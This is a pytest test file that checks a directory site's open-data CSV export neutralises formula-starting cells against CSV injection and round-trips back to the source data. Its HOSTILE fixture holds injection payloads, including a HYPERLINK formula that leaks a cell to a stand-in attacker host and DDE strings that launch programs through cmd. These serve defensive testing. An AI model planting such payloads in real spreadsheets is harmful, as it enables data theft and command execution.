"""The open data's CSV files open in a spreadsheet as values, never as formulas (OWASP, "CSV Injection"): a text
cell that begins with = + - @, a tab or a carriage return gets a quote before it, and a cell holding the separator
or a double quote is between double quotes. Phone numbers in international form get the quote too and read back
unchanged; numbers stay numbers."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from plugins.directory.opendata import neutralised, unneutralised
from scripts.import_csv import import_csv
from tests.site.sitebuild import build, copy_content

HOSTILE = {
    "family_name": '=HYPERLINK("https://evil.example/?"&A1,"Dossier")',
    "given_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "biography_fr": "-2+3+cmd|' /C notepad'!A0",
    "biography_en": "\tTAB=1+1",
    "site_name": "\rCR=1+1",
}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'"])
def test_a_cell_that_would_start_a_formula_gets_a_quote_and_reads_back(start: str) -> None:
    value = start + "1+1"
    assert neutralised(value) == "'" + value
    assert unneutralised(neutralised(value)) == value


def test_other_cells_are_left_as_they_are() -> None:
    for value in ("Rossi", "Dr Fioilleau", "1 quai Antoine Ier", "", " =not first", "é=1"):
        assert neutralised(value) == value == unneutralised(value)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, object], Path]:
    """The demo content with one professional's texts written to run formulas, built as `make site` does."""
    root = tmp_path_factory.mktemp("injection")
    content = copy_content(root / "content")
    record_path = content / "directory" / "practitioners" / "pr-000005.json"
    record = json.loads(record_path.read_text(encoding="utf-8"))
    record["family_name"], record["given_name"] = HOSTILE["family_name"], HOSTILE["given_name"]
    record["biography"] = {"fr": HOSTILE["biography_fr"], "en": HOSTILE["biography_en"]}
    record["sites"][0]["name"] = HOSTILE["site_name"]
    record_path.write_text(json.dumps(record, ensure_ascii=False, indent=2), encoding="utf-8")
    result = build(root / "output", content)
    assert result.returncode == 0, result.stderr[-2000:]
    return root / "output" / "open-data", record, content


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:  # the byte order mark spreadsheets need
        return list(csv.DictReader(handle, delimiter=";"))


def test_the_built_csv_neutralises_every_formula(built: tuple[Path, dict[str, object], Path]) -> None:
    folder, record, _ = built
    row = next(r for r in rows_of(folder / "practitioners.csv") if r["id"] == "pr-000005")
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column
    assert row["phone"] == "'" + str(record["phone"])  # "+377 …": a spreadsheet would add it up otherwise
    raw = (folder / "practitioners.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Dossier"")"' in raw  # quoted, quote inside doubled
    assert float(row["latitude"]) == record["sites"][0]["latitude"]  # type: ignore[index]  # a number, as written
    assert float(row["consultation_eur"]) == record["fees"]["consultation_eur"]  # type: ignore[index]
    # no text cell anywhere in either file begins as a formula would
    for name in ("practitioners.csv", "establishments.csv"):
        for cells in rows_of(folder / name):
            for column, cell in cells.items():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, column, cell)


def test_the_built_csv_imports_back_to_the_same_data_file(
    built: tuple[Path, dict[str, object], Path], tmp_path: Path
) -> None:
    folder, record, content = built
    rows = [r for r in rows_of(folder / "practitioners.csv") if r["id"] == "pr-000005"]
    sheet = tmp_path / "export.csv"
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), delimiter=";")
        writer.writeheader()
        writer.writerows(rows)
    assert import_csv(sheet, content / "directory") == ["pr-000005"]
    after = json.loads((content / "directory" / "practitioners" / "pr-000005.json").read_text(encoding="utf-8"))
    assert after == record


def test_open_data_of_another_format_is_written_anew_not_spliced(tmp_path: Path) -> None:
    """A rebuild copies unchanged records' bytes from the previous files: files an older version wrote (unquoted
    cells) must not be copied into the new ones, even when their sizes match what the manifest says."""
    from array import array
    from itertools import chain

    from plugins.directory.model import load_directory
    from plugins.directory.opendata import splice_practitioners
    from tests.site.sitebuild import ROOT

    cache = tmp_path / "records"
    load_directory(ROOT / "content" / "directory", cache)
    d = load_directory(ROOT / "content" / "directory", cache)  # a rebuild's: no file changed since
    assert not d.changed
    ids = [p.summary.id for p in d.practitioners]
    stamps = array("q", chain.from_iterable(d.practitioner_stamps))
    files = tmp_path / "practitioners.json", tmp_path / "practitioners.csv"
    first = splice_practitioners(d, *files, ids=ids, stamps=stamps, previous={})
    fresh = files[1].read_bytes()
    older = {k: v for k, v in first.items() if k != "format"}  # what a build before the format was named kept
    files[1].write_bytes(b"x" * len(fresh))  # its rows, of the same total size
    splice_practitioners(d, *files, ids=ids, stamps=stamps, previous=older)
    assert files[1].read_bytes() == fresh
